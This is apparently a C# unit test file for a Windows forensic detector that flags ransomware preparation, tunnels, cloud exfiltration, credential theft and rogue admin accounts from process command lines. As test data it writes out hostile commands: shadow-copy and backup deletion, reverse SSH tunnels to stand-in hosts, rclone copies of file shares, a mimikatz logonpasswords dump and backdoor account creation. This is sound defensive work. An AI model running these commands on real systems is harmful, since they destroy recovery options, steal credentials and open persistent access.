using Afterpatch.Analysis.Detectors.Commands;
using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Analysis.Detectors.Scripts;
using Afterpatch.Analysis.Sieves.Commands;
using Afterpatch.Analysis.Sieves.Scripts;
using Afterpatch.Analysis.Tests.Detectors.Persistence;
using Afterpatch.Analysis.Tests.Events;
using Afterpatch.Core;
using Xunit;
using Record = Afterpatch.Core.Record;

namespace Afterpatch.Analysis.Tests.Commands;

/// <summary>From events of processes to findings that are made of several of them.</summary>
public sealed class CommandActTests
{
    private static readonly EvidenceFile File = new(@"C:\Windows\System32\winevt\Logs\Security.evtx", 0, () => Stream.Null);

    private static List<Record> Kept(IEventSieve sieve, params IEnumerable<(string Utc, string Line)> commands)
    {
        var kept = new List<Record>();
        var scan = sieve.Open(File)!;
        foreach (var (utc, line) in commands)
            scan.Observe(new FakeEvent("Microsoft-Windows-Security-Auditing", "Security", 4688, utc, ("SubjectUserName", "EX01$"), ("CommandLine", line)), kept);
        scan.Complete(kept);
        return kept;
    }

    private static IReadOnlyList<Finding> Judge(IDetector detector, params IEnumerable<(string Utc, string Line)> commands) =>
        Facts.Run(detector, Kept(new CommandActSieve(KnowledgeBase.Embedded), commands));

    private static IEnumerable<(string, string)> Minutes(IEnumerable<string> lines) => lines.Select((line, minute) => ($"2022-12-18T01:{minute:00}:00Z", line));

    [Theory]
    [InlineData("vssadmin delete shadows /all /quiet", "wbadmin delete catalog -quiet")]
    [InlineData(@"""C:\Windows\System32\vssadmin.exe"" delete shadows /for=C: /all", "bcdedit /set {default} recoveryenabled No")]
    [InlineData(@"cmd.exe /c wmic shadowcopy delete & net stop VeeamBackupSvc /y")]
    [InlineData(@"powershell -nop -c ""Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }""", @"C:\Windows\system32\sc.exe config VeeamTransportSvc start= disabled")]
    [InlineData("vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", "reagentc /disable")]
    public void Two_kinds_of_acts_against_recovery_in_an_hour_are_a_preparation(params string[] lines)
    {
        var finding = Assert.Single(Judge(new PreparationDetector(), Minutes(lines)));
        Assert.Equal(("ransomware.preparation", Severity.High, Outcome.Succeeded), (finding.Detector, finding.Severity, finding.Outcome));
        Assert.Equal([Question.StillInside], finding.Answers);
    }

    [Fact]
    public void Three_kinds_are_sure()
    {
        var finding = Assert.Single(Judge(new PreparationDetector(), Minutes(["vssadmin delete shadows /all /quiet", "wbadmin delete catalog -quiet", "bcdedit /set {default} recoveryenabled no", "net stop VeeamBackupSvc"])));
        Assert.Equal(Confidence.High, finding.Confidence);
        Assert.Equal(4, finding.Evidence.Count);
    }

    [Theory]
    [InlineData("vssadmin delete shadows /for=D: /oldest", "wbadmin delete systemstatebackup -keepversions:7")]
    [InlineData("net stop VeeamBackupSvc", "sc config BackupExecAgentBrowser start= disabled", "net start VeeamBackupSvc")]
    [InlineData("vssadmin list shadows", "wbadmin get versions", "bcdedit /enum", "bcdedit /set {default} recoveryenabled yes")]
    [InlineData(@"powershell -c ""Get-CimInstance Win32_ShadowCopy | Where-Object InstallDate -lt $old | Remove-CimInstance""", "net stop MSExchangeTransport")]
    [InlineData("findstr /c:\"vssadmin delete shadows\" C:\\logs\\a.txt", "echo wbadmin delete catalog")]
    public void What_backup_products_and_administrators_do_is_no_preparation(params string[] lines) => Assert.Empty(Judge(new PreparationDetector(), Minutes(lines)));

    [Fact]
    public void One_act_alone_far_apart_or_as_a_job_stays_low()
    {
        const string copies = "vssadmin delete shadows /all /quiet";
        Assert.Equal(Severity.Low, Assert.Single(Judge(new PreparationDetector(), ("2022-12-18T01:00:00Z", copies))).Severity);
        Assert.Equal(Severity.Low, Assert.Single(Judge(new PreparationDetector(), ("2022-12-18T01:00:00Z", copies), ("2022-12-18T09:00:00Z", "bcdedit /set recoveryenabled no"))).Severity);
        var nightly = Enumerable.Range(1, 5).SelectMany(day => new[] { ($"2022-12-{day:00}T01:00:00Z", "net stop BackupExecJobEngine"), ($"2022-12-{day:00}T01:05:00Z", copies) });
        var job = Assert.Single(Judge(new PreparationDetector(), nightly));
        Assert.Equal((Severity.Low, Outcome.Context), (job.Severity, job.Outcome));
        Assert.Contains(job.Details, detail => detail.Key == "repeats");
    }

    [Theory]
    [InlineData(@"C:\ProgramData\pta.exe -N -R 3389:127.0.0.1:3389 root@203.0.113.9", "pta -> 203.0.113.9", "persistence.tunnel")]
    [InlineData(@"""C:\Windows\System32\OpenSSH\ssh.exe"" -fNR 8443:10.0.0.5:443 tun@relay.example", "ssh -> relay.example", "persistence.tunnel")]
    [InlineData(@"plink.exe -R 1080 -pw x root@relay.example", "plink -> relay.example", "persistence.tunnel")]
    [InlineData(@"ngrok.exe tcp 3389", "ngrok", "persistence.tunnel")]
    [InlineData(@"rclone.exe copy \\FS01\Daten mega:x --transfers 20", "rclone -> mega", "taken.cloud-copy")]
    [InlineData(@"C:\ProgramData\svc.exe --config c sync D:\Mail store1:in --transfers=20 --no-check-certificate", "svc -> store1", "taken.cloud-copy")]
    [InlineData(@"aws s3 cp D:\pst s3://bucket-x/in --recursive", "aws -> s3://bucket-x", "taken.cloud-copy")]
    public void A_tunnel_and_a_copy_to_the_cloud_are_known_by_their_form(string line, string name, string detector)
    {
        var finding = Assert.Single(Judge(new OutwardDetector(), ("2022-12-18T01:00:00Z", line)));
        Assert.Equal((detector, name, Severity.Low), (finding.Detector, finding.Subject.Value, finding.Severity));
    }

    [Theory]
    [InlineData(@"ssh.exe admin@switch1.contoso.example")]
    [InlineData(@"ssh -L 8080:127.0.0.1:80 admin@switch1")]
    [InlineData(@"C:\cygwin\bin\chmod.exe -R 755 /srv")]
    [InlineData(@"robocopy C:\a D:\b /R:3 /W:5")]
    [InlineData(@"rclone copy store1:in D:\Restore")]
    [InlineData(@"rclone.exe config show")]
    [InlineData(@"aws s3 cp s3://bucket-x/in D:\restore")]
    [InlineData(@"node.exe build.js --max-age=3 copy D:\x D:\y")]
    public void Restores_and_other_options_are_no_tunnel_and_no_copy(string line) => Assert.Empty(Judge(new OutwardDetector(), ("2022-12-18T01:00:00Z", line)));

    [Fact]
    public void A_remote_access_tool_is_seen_when_it_is_started_and_not_when_it_is_named()
    {
        var finding = Assert.Single(Judge(new RemoteAccessDetector(KnowledgeBase.Embedded), ("2022-12-18T01:00:00Z", @"C:\ProgramData\Any\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win")));
        Assert.Equal((Severity.Low, "process"), (finding.Severity, finding.Details.Single(detail => detail.Key == "seenAs").Value));
        Assert.Empty(Judge(new RemoteAccessDetector(KnowledgeBase.Embedded), ("2022-12-18T01:00:00Z", "tasklist | findstr anydesk"), ("2022-12-18T01:00:00Z", "taskkill /im anydesk.exe")));
    }

    [Theory]
    [InlineData(@"C:\Temp\mim.exe ""privilege::debug"" ""sekurlsa::logonpasswords"" exit", true)]
    [InlineData(@"mimikatz.exe", false)]
    [InlineData(@"C:\Tools\check.exe --mode kerberos", false)]
    public void The_command_line_of_a_password_thief_is_a_theft(string line, bool isTheft)
    {
        var findings = Facts.Run(new ScriptDetector(), Kept(new ScriptEventSieve(), ("2022-12-18T01:00:00Z", line)));
        Assert.Equal(isTheft, findings.Any(finding => finding is { Detector: "script.malicious", Severity: Severity.High } && finding.Answers.Contains(Question.Taken) && finding.Attack.Contains("T1003.001")));
    }

    [Theory]
    [InlineData("net user wartung Sommer#2021 /add", "net localgroup Administratoren wartung /add")]
    [InlineData(@"cmd /c net1 user wartung x /add && net1 localgroup ""Administrateurs"" EX01\wartung /add")]
    [InlineData("powershell -c \"New-LocalUser -Name wartung -NoPassword; Add-LocalGroupMember -Group Administradores -Member wartung\"")]
    public void An_account_that_a_command_made_administrator_is_told_and_weighs_more_when_the_machine_did_it_or_an_intruder_was_there(params string[] lines)
    {
        var byMachine = Assert.Single(Judge(new LocalAccountDetector(), Minutes(lines)));
        Assert.Equal(("persistence.local-account", "wartung", Severity.Medium, FindingState.Unknown), (byMachine.Detector, byMachine.Subject.Value, byMachine.Severity, byMachine.State));
        var kept = Kept(new CommandActSieve(KnowledgeBase.Embedded), Minutes(lines)).Cast<CommandAct>().Select(act => act with { User = "adm-lars" });
        var byPerson = Assert.Single(Facts.Run(new LocalAccountDetector(), kept));
        Assert.Equal((Severity.Low, Outcome.Context), (byPerson.Severity, byPerson.Outcome));
        var exploit = Findings.Make("exploit.proxyshell", Severity.Critical, Confidence.High, Outcome.Succeeded) with { FirstUtc = byPerson.FirstUtc!.Value.AddMinutes(-20) };
        Assert.Equal(Severity.High, Analysis.Correlation.IntrusionTime.Judge([exploit, byPerson])[1].Severity);
    }

    [Theory]
    [InlineData("net user wartung /active:yes", "net localgroup Administratoren wartung /add")]
    [InlineData("net user wartung x /add", "net localgroup Benutzer wartung /add")]
    [InlineData("net user wartung x /add /domain", "net localgroup Administrators CONTOSO\\wartung /add")]
    [InlineData("net localgroup Administrators")]
    public void An_account_that_was_there_or_that_no_power_was_given_is_quiet(params string[] lines) => Assert.Empty(Judge(new LocalAccountDetector(), Minutes(lines)));
}
